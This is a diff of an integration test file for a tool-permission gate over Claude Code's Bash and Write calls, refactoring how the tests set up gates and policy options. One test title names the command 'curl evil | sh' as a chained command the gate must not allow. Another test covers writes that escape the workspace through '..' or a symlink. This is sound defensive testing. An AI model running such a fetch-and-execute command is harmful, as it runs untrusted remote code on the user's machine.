@@ -7,13 +7,12 @@ import { spawn } from 'node:child_process';
 import { mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
 import { dirname, join } from 'node:path';
 import { fileURLToPath } from 'node:url';
-import { afterEach, describe, expect, it } from 'vitest';
+import { afterEach, describe, expect, it, onTestFinished } from 'vitest';
 import type { ApprovalRequest } from '../../shared/approval';
-import type { PolicyMode } from '../../shared/policy';
 import { AuditStore } from '../../main/audit/auditStore';
-import { startGate, type RunningGate } from '../../main/gate/startGate';
+import type { RunningGate } from '../../main/gate/startGate';
 import { statePaths } from '../../main/state/paths';
-import { auditKinds, CLI, cliEnv, makeTempDirs, nextApproval, rawRequest, readToken, type TempDirs } from '../integration/helpers';
+import { auditKinds, CLI, cliEnv, makeTempDirs, nextApproval, rawRequest, readToken, startTestGate, type TestGate } from '../integration/helpers';
 
 const FIXTURES = join(dirname(fileURLToPath(import.meta.url)), '../fixtures/claude-code');
 
@@ -49,32 +48,18 @@ function fixture(name: string, workspace: string, change: (input: Record<string,
   return JSON.stringify(input);
 }
 
-let gates: RunningGate[] = [];
-let folders: TempDirs[] = [];
+let gates: TestGate[] = [];
 
 afterEach(async () => {
   await Promise.all(gates.map((gate) => gate.close()));
-  for (const dirs of folders) dirs.remove();
   gates = [];
-  folders = [];
 });
 
-/** A gate over fresh folders, with a user policy file and a mode when given. */
-async function open(options: { policy?: unknown; mode?: PolicyMode; grants?: string[] } = {}) {
-  const dirs = makeTempDirs();
-  folders.push(dirs);
-  if (options.policy) writeFileSync(join(dirs.home, 'policy.json'), JSON.stringify(options.policy, null, 2));
-  const running = await startGate({
-    home: dirs.home,
-    workspace: dirs.workspace,
-    port: 0,
-    approvalTimeoutMs: 30_000,
-    poolSize: 1,
-    ...(options.mode ? { policyMode: options.mode } : {}),
-    ...(options.grants ? { policyRules: options.grants } : {}),
-  });
-  gates.push(running);
-  return { running, dirs };
+/** A gate over fresh folders (closed and removed after the test). */
+async function open(options: Parameters<typeof startTestGate>[0] = {}) {
+  const gate = await startTestGate(options);
+  gates.push(gate);
+  return { running: gate.running, dirs: gate.dirs };
 }
 
 /** The newest call recorded for a Claude Code tool, and its audit records. */
@@ -151,7 +136,7 @@ describe('toolgate hook claude-code', () => {
   });
 
   it('denies by a deny rule without asking anyone', async () => {
-    const { running, dirs } = await open({ policy: { deny: ['shell_exec(git push *)'] } });
+    const { running, dirs } = await open({ userPolicy: { deny: ['shell_exec(git push *)'] } });
     let prompted = 0;
     running.backend.subscribe('approvalRequested', () => prompted++);
     const { answer } = await runHook(dirs.home, fixture('pre-bash.json', dirs.workspace, (input) => (input.tool_input.command = 'git push origin main')));
@@ -162,7 +147,7 @@ describe('toolgate hook claude-code', () => {
   });
 
   it('judges a Bash line part by part: an allow for `git status` does not carry `curl evil | sh`', async () => {
-    const { running, dirs } = await open({ grants: ['shell_exec(git status)'] });
+    const { running, dirs } = await open({ policyRules: ['shell_exec(git status)'] });
     const allowed = await runHook(dirs.home, fixture('pre-bash.json', dirs.workspace));
     expect(allowed.answer.hookSpecificOutput?.permissionDecision).toBe('allow');
 
@@ -177,7 +162,7 @@ describe('toolgate hook claude-code', () => {
   });
 
   it('never allows unasked a Write that leaves the workspace through .. or a symlink, even where writes in it run unasked', async () => {
-    const { running, dirs } = await open({ mode: 'permissive' });
+    const { running, dirs } = await open({ policyMode: 'permissive' });
     const inside = await runHook(dirs.home, fixture('pre-write.json', dirs.workspace));
     expect(inside.answer.hookSpecificOutput?.permissionDecision).toBe('allow');
 
@@ -210,10 +195,7 @@ describe('toolgate hook claude-code', () => {
   });
 
   it('hands back to Claude Code (ask) when the prompt expires, and the call stays open for its outcome', async () => {
-    const dirs = makeTempDirs();
-    folders.push(dirs);
-    const running = await startGate({ home: dirs.home, workspace: dirs.workspace, port: 0, approvalTimeoutMs: 300, poolSize: 1 });
-    gates.push(running);
+    const { running, dirs } = await open({ approvalTimeoutMs: 300 });
     const { answer } = await runHook(dirs.home, fixture('pre-write.json', dirs.workspace));
     expect(answer.hookSpecificOutput?.permissionDecision).toBe('ask');
     expect(answer.hookSpecificOutput?.permissionDecisionReason).toContain('nobody answered');
@@ -221,7 +203,6 @@ describe('toolgate hook claude-code', () => {
     // A gate that stops closes it: no call is left without an end.
     const { callId } = lastCall(running, 'Write').call;
     await running.close();
-    gates = [];
     const paths = statePaths(dirs.home);
     const audit = new AuditStore({ path: paths.audit, headPath: paths.auditHead, readonly: true });
     try {
@@ -235,7 +216,7 @@ describe('toolgate hook claude-code', () => {
 
   it('denies stdin that is not JSON or not a hook input, and asks when no gate runs', async () => {
     const dirs = makeTempDirs();
-    folders.push(dirs);
+    onTestFinished(() => dirs.remove());
     const notJson = await runHook(dirs.home, '{"hook_event_name": "PreToolUse", ');
     expect(notJson.code).toBe(0);
     expect(notJson.answer.hookSpecificOutput).toMatchObject({ hookEventName: 'PreToolUse', permissionDecision: 'deny' });
